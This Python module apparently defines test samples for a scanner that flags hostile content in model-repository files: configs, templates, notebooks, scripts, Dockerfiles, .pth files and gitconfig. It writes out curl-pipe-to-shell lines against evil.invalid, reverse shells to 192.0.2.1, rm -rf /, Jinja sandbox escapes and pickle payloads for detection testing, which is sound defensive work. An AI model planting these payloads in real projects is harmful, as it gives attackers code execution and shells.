"""Harm in the files around a model, as strangers would write it.

Sources: the documentation of each tool that reads such a file. Addresses do not resolve.
"""

from __future__ import annotations

import json
from collections.abc import Mapping

from hostile.build import NOT_CLEAN, Sample, constant
from servedfiles import nemo

_AT = "http://evil.invalid/x"
_PIPED = f"curl {_AT} | sh"
_TARGETS = (
    "os.system subprocess.Popen builtins.eval builtins.exec pickle.loads torch.hub.load "
    "runpy.run_path importlib.import_module shutil.rmtree ctypes.CDLL"
).split()
_COMMANDS = (
    _PIPED,
    f"wget -qO- {_AT} | bash",
    "echo Y3VybCB4 | base64 -d | sh",
    "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1",
    "rm -rf --no-preserve-root /",
    f'bash -c "$(curl -fsSL {_AT})"',
    f"curl -o /tmp/x {_AT} && chmod +x /tmp/x && /tmp/x",
    "nc -e /bin/sh 192.0.2.1 4444",
    f"python3 -c \"exec(__import__('urllib.request').request.urlopen('{_AT}').read())\"",
    f"source <(curl -s {_AT})",
)
_CODE = (
    "import os\nos.system('true')",
    "__import__('subprocess').run(['true'])",
    f"import urllib.request as u\nexec(u.urlopen('{_AT}').read())",
    "exec(__import__('base64').b64decode('cHJpbnQoMSk='))",
    "getattr(__import__('o' + 's'), 'sys' + 'tem')('true')",
    "import importlib\nimportlib.import_module('o' + 's').system('true')",
    "import ctypes\nctypes.CDLL('./x.so')",
    "class A:\n    import os\n    os.popen('true')",
    "def f(x=__import__('os').system('true')): pass",
    "import pickle\npickle.loads(b'cos\\nsystem\\n(S\"true\"\\ntR.')",
)
_ESCAPES = (
    "{{ cycler.__init__.__globals__.os.popen('true') }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ ()|attr('\\x5f\\x5fclass\\x5f\\x5f') }}",
    "{{ messages['__class__'] }}",
    "{{ (lipsum|attr('__glo' ~ 'bals__'))['os'] }}",
    "{{ messages|map(attribute='__class__')|list }}",
    "{{ '{0.__class__}'.format(messages) }}",
    "{{ namespace.__init__.__globals__ }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "{% set a = '__in' + 'it__' %}{{ joiner[a] }}",
)


def _cell(source: str, **output: object) -> str:
    cell = {"cell_type": "code", "source": source, "metadata": {}, "outputs": []}
    return json.dumps(
        {"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [cell | output]}
    )


def _numbered(texts: object) -> dict[str, str]:
    return {str(number): str(text) for number, text in enumerate(texts, 1)}  # type: ignore[call-overload]


_REMOTE = (
    {"auto_map": {"AutoModel": "evil/repository--modeling.X"}},
    {"auto_map": {"AutoModel": "modeling_x.X"}},
    {"text_config": {"auto_map": {"AutoConfig": "evil/r--c.C"}}},
    {"auto_map": {"AutoTokenizer": [None, "evil/r--t.T"]}},
    {"custom_pipelines": {"p": {"impl": "pipe.P"}}},
    {"attn_implementation": "evil/kernel"},
    {"trust_remote_code": True},
    {"text_config": {"_attn_implementation": "evil/kernel"}},
    {"quantization_config": {"auto_map": {"x": "evil/r--q.Q"}}},
    {"tokenizer": {"chat_template": _ESCAPES[0]}},
)
_MLFLOW = (
    {"python_function": {"loader_module": "acme"}},
    {"python_function": {"loader_module": "os"}},
    {"python_function": {"loader_module": "mlflow.pyfunc.model", "code": "code"}},
    {"python_function": {"loader_module": "mlflow.pyfunc.model", "model_code_path": "m.py"}},
    {"python_function": {"loader_module": "mlflow.pyfunc.model", "python_model": "p.pkl"}},
    {"python_function": {"loader_module": "mlflow.sklearn", "model_path": "../../x.pkl"}},
    {"sklearn": {"pickled_model": "/tmp/x.pkl"}},
    {"pytorch": {"model_data": "C:\\x", "pickle_module_name": "mlflow.pytorch"}},
    {"pytorch": {"model_data": "data", "pickle_module_name": "acme"}},
    {"keras": {"data": "data", "keras_module": "acme"}},
)
_PLACES = (
    *("../w", "../../.ssh/id_rsa", "/etc/passwd", "a/../../w", "~/w"),
    *("C:\\w", "..\\w", "http://evil.invalid/w", "file:///etc/passwd", "//host/share/w"),
)
_FOREIGN = (
    "os.system subprocess.Popen acme.Layer custom_st.Evil modeling.X my_code.models.Pooling "
    "builtins.eval torch.nn.Linear sentence.Transformer sentence_transformer.models.Pooling"
).split()
_SETTINGS = (
    *(f'[model]\n_target_ = "{one}"\n' for one in _TARGETS[:4]),
    'm = { _target_ = "os.system" }\n',
    '[[a]]\nclass_path = "subprocess.Popen"\n',
    '[a]\n"\\u005ftarget_" = "os.system"\n',
    f'[tool.task]\nrun = "{_PIPED}"\n',
    "[handler_a]\nclass=FileHandler\nargs=(__import__('os').system('true'),)\n",
    '[nlp]\nlang = "en"\npipeline = []\nafter_creation = {"@callbacks":"acme.x.v1"}\n',
    '[nlp]\nlang = "en"\npipeline = ["x"]\n[components.x]\nfactory = "acme"\n',
)
_GIT = (
    f'[core]\n\tfsmonitor = "{_PIPED}"\n',
    "[core]\n\thooksPath = ./hooks\n",
    "[core]\n\tsshCommand = sh x\n",
    "[core]\n\teditor = ./run.sh\n",
    "[core]\n\tpager = ./run.sh\n",
    '[filter "x"]\n\tsmudge = ./run.sh %f\n',
    '[diff "x"]\n\ttextconv = ./run.sh\n',
    '[merge "x"]\n\tdriver = ./run.sh %A\n',
    '[alias]\n\tst = "!./run.sh"\n',
    "[include]\n\tpath = ../evil\n",
)
_IMPORTS = "import os; os.system('true')"
_PTH = (
    f"{_IMPORTS}\n",
    "import\tos; os.system('true')\n",
    "/a\n" * 300 + f"{_IMPORTS}\n",
    f"\ufeff{_IMPORTS}\n",
    "import sys; exec('x = 1')\n",
    "import base64;exec(base64.b64decode('cHJpbnQoMSk='))\n",
    f"import urllib.request as u; exec(u.urlopen('{_AT}').read())\n",
    "import subprocess; subprocess.Popen(['true'])\n",
    "import os;os.environ.update(LD_PRELOAD='x');os.system('true')\n",
    "import runpy; runpy.run_path('x.py')\n",
)
_CELLS = (
    *(f"!{command}" for command in _COMMANDS[:5]),
    f"%%bash\n{_PIPED}",
    f"get_ipython().system('{_PIPED}')",
    f"%sx {_PIPED}",
    f"x = !{_PIPED}",
    f"%%writefile ~/.bashrc\n{_PIPED}",
    _CODE[2],
    f"!pip install git+{_AT}",
)


def _named(file: str, family: str, what: Mapping[str, str], loader: str) -> tuple[Sample, ...]:
    return tuple(
        Sample(f"strangers, {family} {title}", file, constant(text.encode()), loader, NOT_CLEAN)
        for title, text in what.items()
    )


def _json(things: object) -> dict[str, str]:
    return _numbered(json.dumps(one) for one in things)  # type: ignore[attr-defined]


STRANGERS_REPOSITORY: tuple[Sample, ...] = (
    *_named(
        "config.yaml",
        "yaml that calls",
        {t: f"a:\n- _target_: {t}\n" for t in _TARGETS},
        "calls it",
    ),
    *_named(
        "x.json",
        "json that calls",
        {t: json.dumps({"a": {"_target_": t}}) for t in _TARGETS},
        "calls it",
    ),
    *_named("a.toml", "settings", _numbered(_SETTINGS), "calls it"),
    *_named(
        "config.json",
        "a configuration of transformers",
        _json({"model_type": "x", "architectures": ["X"]} | one for one in _REMOTE),
        "runs the code of a repository",
    ),
    *_named(
        "model.safetensors.index.json",
        "an index of shards",
        _json({"metadata": {}, "weight_map": {"w": one}} for one in _PLACES),
        "reads elsewhere",
    ),
    *_named(
        "modules.json",
        "modules of Sentence Transformers",
        _json([{"idx": 0, "name": "0", "path": "", "type": one}] for one in _FOREIGN),
        "imports it",
    ),
    *_named(
        "model_index.json",
        "a pipeline of Diffusers",
        _json(
            {"_class_name": "X", "_diffusers_version": "0.30.0", "unet": one.rsplit(".", 1)}
            for one in _FOREIGN
        ),
        "imports it",
    ),
    *_named(
        "preprocessor_config.json",
        "a processor",
        _json(
            {"image_processor_type": "X", "auto_map": {"AutoImageProcessor": f"{one}--{name}"}}
            for one, name in zip(("evil/r", "a/b") * 5, _FOREIGN, strict=True)
        ),
        "runs the code of a repository",
    ),
    *_named(
        "MLmodel", "a model of MLflow", _json({"flavors": one} for one in _MLFLOW), "runs its code"
    ),
    *_named("chat_template.jinja", "a template", _numbered(_ESCAPES), "rendering escapes"),
    *_named("a.ipynb", "a notebook", _numbered(map(_cell, _CELLS)), "the cell does it"),
    *_named("run.sh", "a script", _numbered(f"#!/bin/sh\n{one}\n" for one in _COMMANDS), "does it"),
    *_named(
        "Dockerfile",
        "a container",
        _numbered(f"FROM a\nRUN {one}\n" for one in _COMMANDS),
        "building does it",
    ),
    *_named(
        "Makefile", "a makefile", _numbered(f"all:\n\t{one}\n" for one in _COMMANDS), "make does it"
    ),
    *_named(
        "modeling_x.py", "a module", _numbered(f"{one}\n" for one in _CODE), "importing does it"
    ),
    *_named("x.pth", "a start-up file", _numbered(_PTH), "Python runs it at each start"),
    *_named(".gitconfig", "git", _numbered(_GIT), "git runs it"),
    *(
        Sample(
            f"strangers, nemo with {one}",
            "m.nemo",
            lambda one=one: nemo(f"encoder:\n  _target_: {one}\n"),
            "restoring calls it",
        )
        for one in _TARGETS
    ),
)
